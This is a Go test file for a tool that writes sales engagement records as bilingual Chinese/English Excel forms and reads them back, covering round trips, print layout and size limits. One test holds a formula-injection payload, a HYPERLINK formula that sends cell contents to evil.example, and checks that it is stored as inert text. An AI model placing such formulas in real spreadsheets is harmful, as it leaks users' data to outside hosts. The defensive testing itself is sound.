package workbook_test

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/dealtrail/dealtrail/salesrec"
	"github.com/dealtrail/dealtrail/salesrec/workbook"
)

// writeForms writes gen as a workbook of forms.
func writeForms(t *testing.T, gen generated) *bytes.Buffer {
	t.Helper()
	var buf bytes.Buffer
	w, err := workbook.NewFormXLSXWriter(&buf, gen.team)
	if err != nil {
		t.Fatal(err)
	}
	write(t, w, gen)
	return &buf
}

// TestFormRoundTrip: engagements written as forms, one sheet each, read
// back as they were written (ids, text, formats, outcomes, points in the
// notes style), each entry naming its form's 业务编号 cell.
func TestFormRoundTrip(t *testing.T) {
	gen := generate(t, 9)
	buf := writeForms(t, gen)
	b, err := workbook.OpenFormXLSX(bytes.NewReader(buf.Bytes()), "记录表.xlsx", workbook.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	got, rep := readAll(t, b, gen.team)
	checkRoundTrip(t, gen, got, rep)
	wantSource := "记录表.xlsx " + workbook.FormSheetName(1, gen.customers[gen.es[0].CustomerID].Name) + "!A4"
	if got[0].Source != wantSource {
		t.Fatalf("source %q, want %q", got[0].Source, wantSource)
	}
}

// TestFormIsPrintable: a form sheet is set up to print (A4 landscape, fit
// to the page's width), keeps its engagement rows frozen, wraps its text,
// and carries every section's title with zh and en labels.
func TestFormIsPrintable(t *testing.T) {
	gen := generate(t, 2)
	f, err := excelize.OpenReader(writeForms(t, gen))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheets := f.GetSheetList()
	if len(sheets) != 2 {
		t.Fatalf("sheets %v, want one per engagement", sheets)
	}
	name := sheets[0]
	pl, err := f.GetPageLayout(name)
	if err != nil || *pl.Orientation != "landscape" || *pl.FitToWidth != 1 || *pl.FitToHeight != 0 || *pl.Size != 9 {
		t.Fatalf("page layout %+v %v, want A4 landscape fitted to width", pl, err)
	}
	props, err := f.GetSheetProps(name)
	if err != nil || props.FitToPage == nil || !*props.FitToPage {
		t.Fatalf("sheet props %+v %v, want fit to page", props, err)
	}
	panes, err := f.GetPanes(name)
	if err != nil || !panes.Freeze || panes.YSplit != 4 {
		t.Fatalf("panes %+v %v, want the first four rows frozen", panes, err)
	}
	rows, err := f.GetRows(name)
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	for _, r := range rows {
		text.WriteString(strings.Join(r, "|") + "\n")
	}
	for _, want := range []string{"销售业务过程记录 Sales engagement record", "客户基础信息 Customer basics",
		"沟通记录与参与人员 Contacts and participants", "沟通核心内容 Core content", "需求与方案 Needs and proposal",
		"跟进计划 Follow-up plan", "结果与复盘 Result and review", "备注 Remarks",
		"客户参与人\nCustomer participants", "要点\nPoint", "成交金额\nAmount"} {
		if !strings.Contains(text.String(), want) {
			t.Fatalf("form lacks %q:\n%s", want, text.String())
		}
	}
	style, err := f.GetCellStyle(name, "B4")
	if err != nil {
		t.Fatal(err)
	}
	if s, err := f.GetStyle(style); err != nil || s.Alignment == nil || !s.Alignment.WrapText {
		t.Fatalf("a data cell's style %+v %v, want wrapped text", s, err)
	}
	merged, err := f.GetMergeCells(name)
	if err != nil || len(merged) == 0 {
		t.Fatalf("merged cells %v %v, want the title and the narrow blocks' last columns merged", merged, err)
	}
}

// TestFormGuardsFormulas: text that a spreadsheet would run is written as
// text on a form, and read back as typed.
func TestFormGuardsFormulas(t *testing.T) {
	gen := generate(t, 1)
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"点此")`
	gen.es[0].Goal = hostile
	f, err := excelize.OpenReader(writeForms(t, gen))
	if err != nil {
		t.Fatal(err)
	}
	name := f.GetSheetList()[0]
	formula, err := f.GetCellFormula(name, "D4")
	if err != nil || formula != "" {
		t.Fatalf("goal cell holds formula %q (%v)", formula, err)
	}
	if v, _ := f.GetCellValue(name, "D4"); v != "'"+hostile {
		t.Fatalf("goal cell %q, want it after an apostrophe", v)
	}
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	b, err := workbook.OpenFormXLSX(&buf, "记录表.xlsx", workbook.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	got, rep := readAll(t, b, gen.team)
	if !rep.OK() || len(got) != 1 || got[0].Engagement.Goal != hostile {
		t.Fatalf("read back %+v\n%s", got, rep.Text(salesrec.EN))
	}
}

// TestFormLimits: a form sheet over the row limit stops the read with a
// problem at its row, before any engagement is handed on; a cell over the
// length limit is a problem at the form's cell.
func TestFormLimits(t *testing.T) {
	gen := generate(t, 1)
	file := writeForms(t, gen).Bytes()
	read := func(l workbook.Limits) ([]workbook.Entry, workbook.Report, error) {
		b, err := workbook.OpenFormXLSX(bytes.NewReader(file), "记录表.xlsx", l)
		if err != nil {
			t.Fatal(err)
		}
		defer b.Close()
		var got []workbook.Entry
		rep, err := workbook.Read(context.Background(), b, gen.team, nil, func(e workbook.Entry) error {
			got = append(got, e)
			return nil
		})
		return got, rep, err
	}
	got, rep, err := read(workbook.Limits{MaxRows: 10})
	if !errors.Is(err, salesrec.ErrInvalid) || len(got) != 0 || len(rep.Problems) != 1 || !strings.HasSuffix(rep.Problems[0].Where(), "!11") {
		t.Fatalf("row limit: err %v, %d entries, report %s", err, len(got), rep.Text(salesrec.EN))
	}
	got, _, err = read(workbook.Limits{MaxCellChars: 8})
	if err != nil || len(got) != 1 || len(got[0].Problems) == 0 {
		t.Fatalf("cell limit: err %v, entries %+v", err, got)
	}
	for _, p := range got[0].Problems {
		if p.Cell == "" || p.Cell[0] < 'A' || p.Cell[0] > 'L' {
			t.Fatalf("a too-long cell named at %q, want a form cell", p.Where())
		}
	}
}
